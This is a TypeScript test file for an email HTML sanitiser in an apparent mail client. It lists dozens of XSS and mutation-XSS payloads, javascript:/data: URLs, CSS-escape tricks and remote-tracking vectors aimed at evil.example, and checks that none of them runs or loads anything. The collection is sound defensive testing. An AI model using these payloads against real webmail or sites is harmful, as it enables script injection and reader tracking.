import { expect, test } from 'vitest';
import { FRAME_SANDBOX, sanitiseMail } from '../../shared/ui/parts/sanitise.ts';

const OWN_PICTURE = 'blob:https://holdfast.example/1';
const EVIL = 'https://evil.example';

function clean(html: string, loadRemote = false) {
  return sanitiseMail(html, {
    loadRemote,
    pictureOf: (id) => (id === 'logo@mail' ? OWN_PICTURE : undefined),
  });
}

function parsed(html: string, loadRemote = false): Document {
  return new DOMParser().parseFromString(clean(html, loadRemote).document, 'text/html');
}

/** Shows a document the way the product does and waits until it has settled. */
async function shown(srcdoc: string): Promise<HTMLIFrameElement> {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', FRAME_SANDBOX);
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
  frame.srcdoc = srcdoc;
  document.body.append(frame);
  await loaded;
  await new Promise((resolve) => setTimeout(resolve, 50));
  return frame;
}

/** Whatever could make a browser ask another host for something, apart from links. */
function namesElsewhere(inside: Document): string[] {
  const found: string[] = [];
  for (const element of inside.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isLink = element.tagName === 'A' && (name === 'href' || name === 'title');
      if (!isLink && /evil\.example/i.test(value)) found.push(`${element.tagName} ${name}`);
    }
    if (element.tagName === 'STYLE' && /evil\.example/i.test(element.textContent ?? '')) {
      found.push('STYLE');
    }
  }
  return found;
}

const ACTIVE = [
  '<script>parent.pwned = 1</script>',
  '<scr<script>ipt>parent.pwned = 1</scr</script>ipt>',
  '<img src=x onerror="parent.pwned = 1">',
  '<img src=x onerror=parent.pwned=1//',
  '<body onload="parent.pwned = 1">hello',
  '<svg onload="parent.pwned = 1"><script>parent.pwned = 1</script></svg>',
  '<svg><animate onbegin="parent.pwned = 1" attributeName=x dur=1s></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>top.pwned=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;">',
  '<math><annotation-xml encoding="text/html"><script>parent.pwned = 1</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.pwned=1>',
  '<svg></p><style><a id="</style><img src=1 onerror=parent.pwned=1>">',
  '<noscript><p title="</noscript><img src=x onerror=parent.pwned=1>">',
  '<template><img src=x onerror=parent.pwned=1></template>',
  '<iframe srcdoc="<script>top.pwned = 1</script>"></iframe>',
  '<iframe src="javascript:top.pwned=1"></iframe>',
  '<object data="javascript:top.pwned=1"></object><embed src="javascript:top.pwned=1">',
  '<a href="javascript:parent.pwned=1" id=go>go</a>',
  '<a href="&#106;ava&#x0A;script:parent.pwned=1">go</a>',
  '<a href="data:text/html,<script>top.pwned=1</script>">go</a>',
  '<a href="vbscript:pwned">go</a>',
  '<form action="https://evil.example/post"><input name=password autofocus onfocus="parent.pwned=1"><button formaction="javascript:top.pwned=1">ok</button></form>',
  '<details open ontoggle="parent.pwned=1">x</details>',
  '<video src=x onerror="parent.pwned=1"><source onerror="parent.pwned=1"></video>',
  '<input onfocus="parent.pwned=1" autofocus>',
  '<marquee onstart="parent.pwned=1">x</marquee>',
  '<style>x{content:"</style><img src=x onerror=parent.pwned=1>"}</style>',
  '<style>x{content:"\\3c/style\\3e\\3cimg src=x onerror=parent.pwned=1\\3e"}</style>',
  '<p style="content:\'\\3c/p\\3e\\3cscript\\3eparent.pwned=1\\3c/script\\3e\'">x',
  '<base href="javascript:parent.pwned=1//"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:parent.pwned=1">',
];

test.each(ACTIVE)('nothing runs: %s', async (html) => {
  Object.assign(globalThis, { pwned: undefined });
  const frame = await shown(clean(html).document);
  const inside = frame.contentDocument!;
  for (const link of inside.querySelectorAll('a')) {
    expect(link.protocol).not.toMatch(/script|data/);
  }
  const handlers = [...inside.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].filter(({ name }) => name.startsWith('on')),
  );
  expect(handlers).toEqual([]);
  expect(
    inside.querySelectorAll(
      'script, iframe, object, embed, form, input, button, svg, math, base, link, template',
    ),
  ).toHaveLength(0);
  expect(Reflect.get(globalThis, 'pwned')).toBe(undefined);
  frame.remove();
});

const REMOTE = [
  `<img src="${EVIL}/1.gif">`,
  `<img src="//evil.example/1.gif">`,
  `<img src="  HTTPS://evil.example/1.gif">`,
  `<img srcset="${EVIL}/1.gif 1x, ${EVIL}/2.gif 2x">`,
  `<picture><source srcset="${EVIL}/1.gif"><img alt=x></picture>`,
  `<img src="cid:none" lowsrc="${EVIL}/1" dynsrc="${EVIL}/2" longdesc="${EVIL}/3">`,
  `<input type=image src="${EVIL}/1.gif">`,
  `<table background="${EVIL}/1.gif"><tr><td background="${EVIL}/2.gif">x</table>`,
  `<body background="${EVIL}/1.gif">x`,
  `<p style="background:url(${EVIL}/1.gif)">x`,
  `<p style="background:u\\72l(${EVIL}/1.gif)">x`,
  `<p style="background:url(/**/'${EVIL}/1.gif')">x`,
  `<p style="background-image:image-set('${EVIL}/1.gif' 1x)">x`,
  `<p style="background-image:-webkit-image-set(url(${EVIL}/1.gif) 1x)">x`,
  `<p style="background-image:cross-fade(url(${EVIL}/1.gif), red)">x`,
  `<p style="list-style:url(${EVIL}/1.gif) inside">x`,
  `<p style="cursor:url(${EVIL}/1.cur), auto">x`,
  `<p style="content:url(${EVIL}/1.gif)">x`,
  `<p style="filter:url(${EVIL}/1.svg#a)">x`,
  `<p style="mask-image:url(${EVIL}/1.svg)">x`,
  `<p style="--x:url(${EVIL}/1.gif);background:var(--x)">x`,
  `<p style="shape-outside:url(${EVIL}/1.png)">x`,
  `<p style="border-image:url(${EVIL}/1.png) 1">x`,
  `<style>@import "${EVIL}/1.css";p{color:red}</style>`,
  `<style>@import url(${EVIL}/1.css) screen;</style>`,
  `<style>@\\69mport "${EVIL}/1.css";</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/1.woff2)}p{font-family:x}</style>`,
  `<style>@media screen{p{background:url(${EVIL}/1.gif)}}</style>`,
  `<style>@supports (color:red){p{background:url(${EVIL}/1.gif)}}</style>`,
  `<style>@layer a{p{background:url(${EVIL}/1.gif)}}</style>`,
  `<style>p{&:hover{background:url(${EVIL}/1.gif)}}</style>`,
  `<style>@property --x{syntax:"<url>";inherits:false;initial-value:url(${EVIL}/1)}</style>`,
  `<style>@namespace url(${EVIL}/ns);</style>`,
  `<style>input[value^="a"]{background:url(${EVIL}/a)}</style>`,
  `<style><!-- p{background:url(${EVIL}/1.gif)} --></style>`,
  `<link rel=stylesheet href="${EVIL}/1.css"><link rel=prefetch href="${EVIL}/2">`,
  `<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/"><img src="1.gif">`,
  `<a href="https://fine.example" ping="${EVIL}/ping">x</a>`,
  `<video poster="${EVIL}/1.gif" src="${EVIL}/2.mp4"></video><audio src="${EVIL}/3.mp3">`,
  `<svg><image href="${EVIL}/1.gif"/><use href="${EVIL}/1.svg#a"/></svg>`,
  `<iframe src="${EVIL}/"></iframe><object data="${EVIL}/"></object><embed src="${EVIL}/">`,
  `<blockquote cite="${EVIL}/">x</blockquote><q cite="${EVIL}/">x</q>`,
  `<html manifest="${EVIL}/m"><head profile="${EVIL}/p"></head><body>x</body></html>`,
  `<bgsound src="${EVIL}/1.wav"><layer src="${EVIL}/2">`,
];

test.each(REMOTE)('nobody elsewhere is asked for anything: %s', async (html) => {
  const { document: text } = clean(html);
  expect(namesElsewhere(new DOMParser().parseFromString(text, 'text/html'))).toEqual([]);
  const frame = await shown(text);
  const asked = frame.contentWindow!.performance.getEntriesByType('resource');
  expect(asked.map(({ name }) => name)).toEqual([]);
  frame.remove();
});

test('the frame’s own policy lets nothing in, whatever the page around it allows', () => {
  const policy = parsed('<p>x').querySelector('meta[http-equiv]')?.getAttribute('content');
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain('img-src data: blob:;');
  expect(policy).toContain("form-action 'none'");
  expect(policy).toContain("base-uri 'none'");
  expect(policy).not.toContain('https:');
});

test('a policy of the mail’s own can’t take the place of ours', () => {
  const inside = parsed(
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><p>x</p>',
  );
  expect(inside.querySelectorAll('meta[http-equiv]')).toHaveLength(1);
});

test('pictures from elsewhere are counted once each and come when they are asked for', () => {
  const html = `<img src="${EVIL}/1.gif"><img src="${EVIL}/1.gif"><p style="background:url(http://evil.example/2.gif)">x`;
  expect(clean(html).remotePictures).toBe(2);

  const inside = parsed(html, true);
  expect(inside.querySelector('img')?.getAttribute('src')).toBe(`${EVIL}/1.gif`);
  expect(inside.querySelector('p')?.getAttribute('style')).toContain('https://evil.example/2.gif');
  expect(inside.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer');
});

test('even then nothing but pictures comes from elsewhere', () => {
  const html = `<style>@import "${EVIL}/1.css";@font-face{font-family:x;src:url(${EVIL}/f)}</style><iframe src="${EVIL}/2"></iframe><link rel=stylesheet href="${EVIL}/3">`;
  expect(namesElsewhere(parsed(html, true))).toEqual([]);
});

test('the mail’s own pictures come from the copy, also as a background', () => {
  const inside = parsed('<img src="cid:logo@mail"><p style="background:url(cid:logo@mail)">x');
  expect(inside.querySelector('img')?.getAttribute('src')).toBe(OWN_PICTURE);
  expect(inside.querySelector('p')?.getAttribute('style')).toContain(OWN_PICTURE);
  expect(clean('<img src="cid:other@mail">').remotePictures).toBe(0);
});

test('links open outside, without a way back, and say where they lead', () => {
  const link = parsed(
    '<a href="https://bank.example/login" target=_top>Your bank</a>',
  ).querySelector('a')!;
  expect(link.target).toBe('_blank');
  expect(link.rel).toContain('noopener');
  expect(link.title).toBe('https://bank.example/login');
});

test('a link says the host it leads to, not the one it poses as', () => {
  const links = parsed(
    '<a href="https://\u0430pple.com/">x</a><a href="https://bank.example@evil.example/">x</a>',
  ).querySelectorAll('a');
  expect([...links].map(({ title }) => title)).toEqual([
    'https://xn--pple-43d.com/',
    'https://evil.example/',
  ]);
});

test('a background of megabytes is shown or left out, and the rest is there', () => {
  const html = `<p style="background:url(data:image/png;base64,${'A'.repeat(12_000_000)})">x</p>`;
  expect(parsed(html).body.textContent).toBe('x');
});

test('a mail of half a million elements is shown by its words alone, and quickly', () => {
  const { document: text, isWordsOnly } = clean(
    `<script>no</script>${'<b>n</b> '.repeat(300_000)}<p>end &lt;b&gt;</p>`,
  );
  const inside = new DOMParser().parseFromString(text, 'text/html');

  expect(isWordsOnly).toBe(true);
  expect(inside.body.children).toHaveLength(0);
  expect(inside.body.textContent).toMatch(/^n n [\s\S]*end <b>\s*$/);
});

test('a style sheet of megabytes is left out, and the text is there', () => {
  const inside = parsed(`<style>${'.c{color:red}'.repeat(200_000)}</style><p>x</p>`);
  expect(inside.body.textContent).toBe('x');
  expect(inside.querySelectorAll('style')).toHaveLength(1);
});

test('what only looks is kept: tables, colours, sizes, alignment and classes', () => {
  const inside = parsed(
    '<html><head><style>.big{font-size:18px}@media (max-width: 600px){.big{color:blue}}</style></head><body bgcolor="#eeeeee" style="margin:4px"><table border=1 width="100%" cellpadding=6><tr><td align=center bgcolor=red class=big style="padding:2px;color:#fff!important">x</td></tr></table><font color=green size=4>y</font></body></html>',
  );
  const cell = inside.querySelector('td')!;
  expect(inside.querySelector('table')?.getAttribute('border')).toBe('1');
  expect(cell.getAttribute('align')).toBe('center');
  expect(cell.style.getPropertyPriority('color')).toBe('important');
  expect(inside.body.getAttribute('bgcolor')).toBe('#eeeeee');
  expect(inside.body.style.marginTop).toBe('4px');
  const css = [...inside.querySelectorAll('style')].map((style) => style.textContent).join('');
  expect(css).toContain('.big');
  expect(css).toMatch(/@media \(max-width: 600px\)/);
  expect(inside.querySelector('font')?.getAttribute('color')).toBe('green');
});

test('a mail that is no HTML at all is shown as what it is', () => {
  expect(parsed('just words & <b>bold').body.textContent).toBe('just words & bold');
  expect(parsed('').body.textContent).toBe('');
});

test('a mail of ten thousand nested elements is shown or cut, but ends', () => {
  const html = `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`;
  expect(clean(html).document.length).toBeGreaterThan(0);
});
